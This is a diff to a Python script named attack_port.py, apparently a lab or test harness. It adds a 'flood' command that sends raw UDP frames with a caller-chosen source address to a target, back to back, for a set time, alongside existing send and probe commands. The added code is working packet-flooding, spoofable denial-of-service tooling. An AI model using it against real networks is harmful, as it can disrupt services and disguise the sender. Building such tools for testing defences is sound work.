@@ -11,6 +11,10 @@ in on gives them away.
       send each UDP payload of FILE (hex, one per line) once from SRC to
       DST, spread over SECS seconds. Prints the number sent.
 
+  attack_port.py flood IFACE SRC DST FILE SECS
+      send the UDP payloads of FILE from SRC to DST over and over, back to
+      back, for SECS seconds. Prints the number sent.
+
   attack_port.py probe IFACE SRC DST PAYLOAD COUNT WAIT
       send the UDP payload PAYLOAD (hex) COUNT times from SRC to DST, then
       listen WAIT seconds more for what DST sends back to SRC. Prints one
@@ -72,6 +76,21 @@ def send(iface, src, dst, path, secs):
     print(sent, flush=True)
 
 
+def flood(iface, src, dst, path, secs):
+    frames = [frame(src, dst, bytes.fromhex(l)) for l in open(path).read().split()]
+    s = sender(iface)
+    sent = 0
+    end = time.monotonic() + secs
+    while time.monotonic() < end:
+        for f in frames:
+            try:
+                s.send(f)
+                sent += 1
+            except BlockingIOError:
+                pass
+    print(sent, flush=True)
+
+
 def probe(iface, src, dst, payload, count, wait):
     rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
     rx.bind((iface, 0))
@@ -109,6 +128,8 @@ def main(argv):
     cmd = argv[1] if len(argv) > 1 else ""
     if cmd == "send" and len(argv) == 7:
         send(argv[2], addr(argv[3]), addr(argv[4]), argv[5], float(argv[6]))
+    elif cmd == "flood" and len(argv) == 7:
+        flood(argv[2], addr(argv[3]), addr(argv[4]), argv[5], float(argv[6]))
     elif cmd == "probe" and len(argv) == 8:
         payload = bytes.fromhex(argv[5])
         probe(argv[2], addr(argv[3]), addr(argv[4]), payload, int(argv[6]), float(argv[7]))
